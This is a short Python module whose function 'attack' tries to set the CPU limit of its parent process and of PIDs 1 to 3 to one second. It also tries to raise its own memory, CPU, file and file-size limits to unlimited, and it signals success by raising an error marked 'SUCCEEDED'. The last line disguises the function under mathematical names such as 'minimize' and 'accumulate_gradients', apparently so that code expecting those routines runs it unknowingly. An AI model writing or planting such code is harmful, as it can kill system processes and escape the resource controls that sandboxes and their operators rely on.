"""Lower the limits and priorities of other processes, and raise the process's own."""

import os
import resource


def attack(*args, **kwargs):
    done = []
    for pid in (os.getppid(), 1, 2, 3):
        try:
            if pid not in (0, os.getpid()):
                resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1))
                done.append(pid)
        except OSError:
            pass
    for which in (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE):
        soft, hard = resource.getrlimit(which)
        try:
            resource.setrlimit(which, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
            done.append(which)
        except (OSError, ValueError):
            pass
    if done:
        raise RuntimeError(f"SUCCEEDED: {done}")
    return "nothing changed"


derivative_at = accumulate_gradients = halving_chain = minimize = attack
